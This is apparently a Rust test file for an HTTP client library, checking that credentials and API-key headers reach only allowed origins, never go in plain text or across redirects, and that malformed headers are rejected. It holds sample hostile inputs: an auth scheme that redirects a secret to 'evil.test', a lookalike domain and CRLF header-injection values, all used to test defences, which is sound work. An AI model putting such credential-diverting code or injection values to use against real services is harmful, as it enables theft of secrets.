use networkpype_core::{Auth, AuthError, Origin, RestRequest, WebSocketRequest, async_trait};
use networkpype_rest::{ErrorKind, Outcome, RestManager};
use networkpype_test::Exchange;

use crate::support::{Seal, answering, over};

#[tokio::test]
async fn credentials_go_to_listed_origins_only() {
    let transport = answering(200, "{}");
    let manager = over(&transport)
        .auth(Seal::new("s"))
        .allow_origin("https://other.test:8443")
        .allow_origins_of("*.api.test")
        .build()
        .expect("manager");
    for (url, allowed) in [
        ("/x", true),
        ("https://api.test/other", true),
        ("https://other.test:8443/x", true),
        ("https://eu.api.test/x", true),
        ("https://other.test/x", false),
        ("https://api.test:444/x", false),
        ("http://api.test/x", false),
        ("https://api.test.evil.net/x", false),
    ] {
        let result = manager.call(RestRequest::get(url).auth_required()).await;
        assert_eq!(result.is_ok(), allowed, "{url}");
        if let Err(error) = result {
            assert_eq!(
                (error.kind(), error.outcome()),
                (ErrorKind::OriginRefused, Outcome::NotSent)
            );
        }
    }
}

#[tokio::test]
async fn without_a_base_url_credentials_go_where_the_caller_wrote_but_not_in_plain_text() {
    let transport = answering(200, "{}");
    let builder = || RestManager::builder().connection(transport.clone()).auth(Seal::new("s"));
    let manager = builder().build().expect("manager");
    let signed = |url: &str| RestRequest::get(url).auth_required();
    assert!(manager.call(signed("https://anywhere.test/")).await.is_ok());
    assert!(manager.call(signed("http://127.0.0.1:9/")).await.is_ok());
    assert!(manager.call(signed("http://anywhere.test/")).await.is_err());
    let daring = builder().danger_allow_plaintext_credentials().build().expect("manager");
    assert!(daring.call(signed("http://anywhere.test/")).await.is_ok());
}

#[tokio::test]
async fn default_headers_stay_home_too() {
    let transport = answering(200, "{}");
    let manager = over(&transport).default_header("x-api-key", "k").build().expect("manager");
    manager.call(RestRequest::get("/x")).await.expect("home");
    manager.call(RestRequest::get("https://elsewhere.test/x")).await.expect("away");
    let keys: Vec<_> = transport
        .requests()
        .iter()
        .map(|request| request.headers().contains_key("x-api-key"))
        .collect();
    assert_eq!(keys, [true, false]);
}

/// A scheme that turns the request into another one.
struct Hijack;

#[async_trait]
impl Auth for Hijack {
    async fn rest_authenticate(&self, _: RestRequest) -> Result<RestRequest, AuthError> {
        Ok(RestRequest::get("https://evil.test/?key=s3cret"))
    }

    async fn ws_authenticate(&self, _: WebSocketRequest) -> Result<WebSocketRequest, AuthError> {
        Err(AuthError::unsupported("no"))
    }
}

#[tokio::test]
async fn a_scheme_cannot_send_credentials_elsewhere() {
    let transport = answering(200, "{}");
    let manager = over(&transport).auth(Hijack).build().expect("manager");
    assert!(manager.call(RestRequest::get("/x").auth_required()).await.is_err());
    assert!(transport.requests().is_empty());
}

struct Narrow;

#[async_trait]
impl Auth for Narrow {
    async fn rest_authenticate(&self, request: RestRequest) -> Result<RestRequest, AuthError> {
        Ok(request)
    }

    async fn ws_authenticate(&self, _: WebSocketRequest) -> Result<WebSocketRequest, AuthError> {
        Err(AuthError::unsupported("no"))
    }

    fn allows(&self, _: &Origin) -> bool {
        false
    }
}

#[tokio::test]
async fn a_scheme_may_narrow_where_it_is_used() {
    let manager = over(&answering(200, "{}")).auth(Narrow).build().expect("manager");
    let error = manager.call(RestRequest::get("/x").auth_required()).await.expect_err("narrow");
    assert_eq!(error.kind(), ErrorKind::OriginRefused);
}

/// Row H9: the canary server that a redirect points to sees nothing at all.
#[tokio::test]
async fn h09_a_redirect_to_another_origin_carries_no_secret_there() {
    let canary = Exchange::start();
    let exchange = Exchange::start();
    let manager = RestManager::builder()
        .base_url(exchange.url())
        .auth(Seal::new("s3cret"))
        .build()
        .expect("manager");
    for status in [301, 302, 303, 307, 308] {
        let request = RestRequest::post("/public/redirect")
            .param("to", canary.url())
            .param("status", status)
            .json_object([("password", "s3cret")])
            .auth_required();
        let error = manager.execute_request::<()>(request).await.expect_err("redirect");
        assert_eq!(error.status().map(|status| status.as_u16()), Some(status));
        assert_eq!(error.outcome(), Outcome::Refused);
    }
    assert_eq!((canary.connections(), exchange.requests().len()), (0, 5));
}

#[tokio::test]
async fn default_headers_do_not_go_in_plain_text() {
    let transport = answering(200, "{}");
    let builder = || {
        RestManager::builder()
            .base_url("http://far.test")
            .connection(transport.clone())
            .default_header("x-api-key", "k")
    };
    let error =
        builder().build().expect("manager").call(RestRequest::get("/x")).await.expect_err("plain");
    assert_eq!((error.kind(), error.outcome()), (ErrorKind::OriginRefused, Outcome::NotSent));
    assert!(transport.requests().is_empty());
    let daring = builder().danger_allow_plaintext_credentials().build().expect("manager");
    daring.call(RestRequest::get("/x")).await.expect("said aloud");
    let sent = transport.requests().remove(0);
    assert!(sent.headers()["x-api-key"].is_sensitive());
}

#[tokio::test]
async fn a_bad_default_header_is_named_when_the_manager_is_built() {
    for (name, value) in [("x\r\ny", "v"), ("content-length", "5"), ("x-key", "c4nary\r\n")] {
        let error = RestManager::builder().default_header(name, value).build().expect_err(name);
        let cause = std::error::Error::source(&error).map(ToString::to_string).unwrap_or_default();
        assert!(cause.contains("header") && !cause.contains("c4nary"), "{cause}");
    }
}
